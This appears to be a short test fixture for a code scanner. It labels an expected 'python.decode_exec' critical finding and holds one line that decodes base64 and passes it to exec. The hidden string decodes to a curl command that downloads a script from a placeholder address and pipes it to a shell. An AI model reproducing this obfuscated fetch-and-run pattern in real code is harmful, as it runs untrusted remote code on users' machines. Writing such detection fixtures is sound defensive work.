# expect: python.decode_exec critical
# path: tools/a.py
exec(__import__('base64').b64decode('Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjkveCB8IHNo'))
